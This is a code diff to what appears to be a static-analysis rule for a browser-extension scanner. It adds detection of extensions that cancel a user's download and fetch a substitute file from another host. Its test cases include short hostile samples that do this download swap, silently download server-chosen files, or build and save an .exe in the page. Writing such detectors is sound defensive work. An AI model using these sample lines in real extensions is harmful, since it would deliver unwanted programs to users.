@@ -2,9 +2,9 @@ import { callsNamed, callsOf, Op, pattern, propertyOf, writesOf, type ScriptFact
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { tagOf } from './codeRuns.ts';
-import { isFromServer, leadsOut } from './network.ts';
+import { hostOf, isFromServer, leadsOut } from './network.ts';
 import { runsInPages } from './places.ts';
-import { few } from './usage.ts';
+import { callsWithin, few, functionOf } from './usage.ts';
 
 const PROGRAM = /\.(exe|msi|scr|bat|cmd|ps1|vbs|hta|jar|dmg|pkg|app|deb|rpm|sh|appimage|lnk|iso|apk)(\?|#|$)/i;
 
@@ -31,6 +31,15 @@ export const opensDownloadedProgram = defineRule({
       const name = pattern(script, write.value);
       if (PROGRAM.test(name) && callsOf(script, 'Blob').length > 0 && callsNamed(script, 'click', 'dispatchEvent').length > 0) yield hit(write.value, { evidence: name, message: 'The program is put together in the page and saved under this name.' });
     }
+    // Another file in the place of the one that the person wanted.
+    if (callsOf(script, 'chrome.downloads.cancel').length > 0) {
+      const started = callsOf(script, 'chrome.downloads.onCreated.addListener', 'chrome.downloads.onDeterminingFilename.addListener', 'chrome.downloads.onChanged.addListener');
+      const inside = new Set(started.flatMap((event) => callsIn(script, event.args[0] ?? 0)));
+      for (const call of callsOf(script, 'chrome.downloads.download')) {
+        const to = pattern(script, propertyOf(script, call.args[0] ?? 0, 'url'));
+        if (inside.has(call.value) && hostOf(to) !== undefined && leadsOut(to)) yield hit(call.value, { evidence: to.slice(0, 160), message: 'A download is stopped, and this is fetched in its place.' });
+      }
+    }
     const opens = callsOf(script, 'chrome.downloads.open', 'chrome.downloads.acceptDanger');
     for (const call of callsOf(script, 'chrome.downloads.download')) {
       const address = propertyOf(script, call.args[0] ?? 0, 'url');
@@ -49,8 +58,10 @@ export const opensDownloadedProgram = defineRule({
       backgroundExample('fetch("https://x.example/n").then((r) => r.json()).then((j) => { chrome.downloads.setShelfEnabled(false); chrome.downloads.download({ url: j.u, filename: "invoice." + j.ext }); });'),
       contentExample('document.querySelectorAll("a[download]").forEach((a) => { a.href = "https://get.example/setup.exe?n=" + a.textContent; });'),
       contentExample('const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([bytes])); a.download = "Update_" + Date.now() + ".exe"; a.click();'),
+      backgroundExample('chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: "https://fast.example/get?f=" + encodeURIComponent(item.finalUrl), filename: item.filename }); });'),
     ],
     good: [
+      backgroundExample('chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: item.finalUrl, filename: "sorted/" + item.filename }); });'),
       contentExample('const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([text])); a.download = document.title + ".md"; a.click();'),
       contentExample('const a = document.createElement("a"); a.href = "https://tool.example/helper.exe"; a.textContent = "Install the helper"; panel.append(a);'),
       backgroundExample('fetch("https://api.example.com/media").then((r) => r.json()).then((j) => chrome.downloads.download({ url: j.u, filename: j.title + ".mp4" }));'),
@@ -66,3 +77,9 @@ function hidesDownloads(script: ScriptFacts): boolean {
 }
 
 const isOff = (script: ScriptFacts, value: number): boolean => script.op[value] === Op.constant && script.strings[script.a[value] as number] === 'false';
+
+/** Calls that a listener makes, by value. */
+function callsIn(script: ScriptFacts, listener: number): number[] {
+  const fn = functionOf(script, listener);
+  return fn === undefined ? [] : callsWithin(script, fn).map((call) => call.value);
+}
